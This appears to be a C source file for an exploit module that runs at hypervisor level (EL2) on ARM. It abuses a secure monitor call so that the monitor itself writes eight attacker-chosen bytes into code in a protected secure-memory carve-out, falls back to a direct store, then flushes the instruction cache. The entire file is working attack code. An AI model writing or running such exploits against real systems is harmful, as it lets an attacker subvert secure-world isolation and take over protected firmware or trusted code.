/*
 * Asks the monitor to store a "stage-2 entry", at an address that is the agent's code in secure memory:
 * eight bytes of the attacker's choice, by the monitor's own hand. Runs at EL2.
 */
#include "agent.h"

#include <rw/tvmi_smc.h>

RW_MODULE_ENTRY int module_entry(const struct rw_vmm_api *api) {
  const int64_t answer = rw_smc(RW_SMC_STAGE2_STORE, RW_SECURE_CARVE_OUT, BLIND_0, 0);
  if (answer == RW_TVMI_UNKNOWN) return store_directly(api);
  if (answer != RW_TVMI_OK || rw_smc(RW_SMC_STAGE2_STORE, RW_SECURE_CARVE_OUT + 8, BLIND_1, 0) != RW_TVMI_OK) return 1;
  __asm__ volatile("ic ialluis\n dsb ish\n isb" : : : "memory");
  return 0;
}
